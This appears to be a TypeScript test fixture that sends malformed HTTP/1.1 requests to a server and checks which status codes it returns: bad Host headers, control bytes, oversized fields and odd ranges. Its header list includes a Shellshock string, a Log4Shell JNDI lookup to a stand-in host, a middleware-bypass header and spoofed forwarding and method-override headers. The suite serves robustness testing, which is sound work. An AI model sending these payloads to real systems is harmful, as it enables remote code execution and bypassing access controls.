import { bait, type HostileRequest, host, once, onceOrNever, request } from './hostile-request'

const get = (fields: string) => request('GET / HTTP/1.1', fields)
const bare = (fields: string) => `GET / HTTP/1.1\r\n${fields}Connection: close\r\n\r\n`

/** What RFC 9112, 3.2, refuses: no Host, several, or one that is none. */
const hosts = [
  '',
  'Host: localhost\r\nHost: localhost\r\n',
  `Host: localhost\r\nHost: ${bait}.test\r\n`,
  `Host: ${bait}.test\r\nhost: localhost\r\n`,
  ...[
    'a b',
    'a/b',
    'a, b',
    'u@h',
    'u:p@h',
    'a?b',
    'a#b',
    'a:port',
    'a:80:80',
    '[::1',
    '::1',
    '[]',
    'a\\b',
  ].map((value) => `Host: ${value}\r\n`),
  ...['<script>', '"a"', 'a%', 'a%zz', 'é', 'a\tb', 'a^b', 'a|b', 'a`b', '{a}'].map(
    (value) => `Host: ${value}\r\n`,
  ),
].map((field) => once('Host', bare(field), [400]))

/** Unusual ones that the grammar allows. */
const oddHosts = [
  '[::1]',
  '[::1]:80',
  'A.Example',
  'a:',
  'a:80',
  'xn--caf-dma.example',
  '127.0.0.1',
  'a_b',
  '~a',
].map((value) => once('Host inhabituel', bare(`Host: ${value}\r\n`), [200]))

/** Control bytes in the value of a field, and in its name (RFC 9110, 5.5). */
const controls = [...Array(32).keys(), 127]
  .filter((code) => code !== 9)
  .flatMap((code) => {
    const byte = String.fromCharCode(code)
    return [
      onceOrNever('octet de contrôle', get(`X-A: a${byte}b\r\n`), [200, 400]),
      onceOrNever('octet de contrôle', get(`X${byte}A: a\r\n`), [400]),
    ]
  })

const names = ['X A', 'X:', '', 'X(', 'X"', 'X[', 'X{', 'X/', 'X@', 'X,', 'é'].map((name) =>
  onceOrNever('nom de champ', get(`${name}: a\r\n`), name === 'X:' ? [200, 400] : [400]),
)

const lines = ['X-A\r\n', 'X-A: a\r\n folded\r\n', ': a\r\n', 'X-A : a\r\n', '\tX-A: a\r\n', 'X-A: a\n'].map(
  (text) => onceOrNever('ligne de champ', get(text), [200, 400]),
)

const sizes = [
  once('trop de champs', get(`Cookie: ${'a'.repeat(17_000)}\r\n`), [431]),
  once('trop de champs', get(`${'a'.repeat(17_000)}: b\r\n`), [431]),
  once('trop de champs', get('X-A: b\r\n'.repeat(150)), [200, 400, 431]),
  once('trop de champs', get(`X-A: ${'b'.repeat(200)}\r\n`.repeat(90)), [431]),
  once('trop de champs', request(`GET /${'a'.repeat(17_000)} HTTP/1.1`), [414, 431]),
  once('trop de champs', request(`GET /?${'%'.repeat(17_000)} HTTP/1.1`), [414, 431]),
  onceOrNever('trop de champs', request(`${'A'.repeat(17_000)} / HTTP/1.1`), [400, 405, 414, 431, 501]),
  once('trop de champs', get(`If-None-Match: ${'"a", '.repeat(3000)}"b"\r\n`), [200, 431]),
]

/** Fields with which others are told another address, method or client. */
const claims = [
  `X-Forwarded-Host: ${bait}.test`,
  `X-Forwarded-For: ${bait}`,
  `X-Forwarded-Proto: ${bait}`,
  `X-Forwarded-Prefix: /${bait}`,
  `Forwarded: host=${bait}.test;proto=https`,
  `X-Original-URL: /${bait}`,
  `X-Rewrite-URL: /${bait}`,
  `X-HTTP-Method-Override: DELETE`,
  `X-Method-Override: PUT`,
  `X-Middleware-Subrequest: middleware:middleware:middleware:middleware:middleware`,
  `X-Invoke-Path: /${bait}`,
  `X-Matched-Path: /${bait}`,
  `X-Nextjs-Data: 1`,
  `RSC: 1`,
  `Next-Action: ${bait}`,
  `Next-Router-Prefetch: 1`,
  `X-Now-Route-Matches: 1`,
  `Origin: http://${bait}.test`,
  `Referer: http://${bait}.test/`,
  `User-Agent: () { :; }; echo ${bait}`,
  `User-Agent: \${jndi:ldap://${bait}.test/a}`,
  `Cookie: a=${bait}`,
  `Authorization: Basic ${bait}`,
  `Via: ${bait}`,
  `Max-Forwards: 0`,
  `TE: trailers, ${bait}`,
  `Trailer: Content-Length`,
  `Accept: ${bait}/html`,
  `Accept-Language: ${bait}`,
  `Connection: Host, ${bait}`,
  `Keep-Alive: timeout=999999999`,
  `Content-Type: ${bait}`,
].map((field) => once('champ prétendu', get(`${field}\r\n`), [200]))

/** Preconditions, ranges and codings as nobody means them (RFC 9110, 12 to 14). */
const selections = [
  `Range: bytes=${'0-0,'.repeat(1000)}1-1`,
  'Range: bytes=-',
  'Range: bytes=--1',
  'Range: bytes=5-2',
  'Range: bytes=99999999999999999999999-',
  'Range: bytes=-99999999999999999999999',
  'Range: bytes=0-99999999999999999999999',
  'Range: bytes=0x0-0x1',
  `Range: ${bait}=0-1`,
  'Range: bytes=0-0\r\nRange: bytes=1-1',
  'Range: bytes=0-\r\nIf-Range: W/"a"',
  'Range: bytes=0-\r\nIf-Range: hier',
  'If-None-Match: *\r\nIf-Modified-Since: x',
  `If-None-Match: ${'W/'.repeat(2000)}`,
  'If-Match: *',
  'If-Match: "a"',
  'If-Modified-Since: Thu, 99 Foo 9999 99:99:99 GMT',
  'If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT',
  'If-Modified-Since: 0\r\nIf-Modified-Since: 1',
  'Accept-Encoding: *;q=0',
  'Accept-Encoding: gzip;q=1e9, br;q=-1',
  `Accept-Encoding: ${'gzip, '.repeat(1000)}`,
  'Accept-Encoding: identity;q=0, *;q=0',
  'Accept-Encoding: \x00',
].map((fields) => once('choix', get(`${fields}\r\n`), [200, 206, 304, 400, 406, 412, 416]))

const expectations = ['100-continue', '200-ok', bait, '100-continue, x', ''].map((value) =>
  once('attente', get(`Expect: ${value}\r\n`), [200, 400, 417]),
)

export const hostileFields: readonly HostileRequest[] = [
  ...hosts,
  ...oddHosts,
  ...controls,
  ...names,
  ...lines,
  ...sizes,
  ...claims,
  ...selections,
  ...expectations,
  // A Host is asked of HTTP/1.1 alone.
  once('Host', 'GET / HTTP/1.0\r\n\r\n', [200]),
  once('Host', `GET / HTTP/1.0\r\n${host}\r\n`, [200]),
]
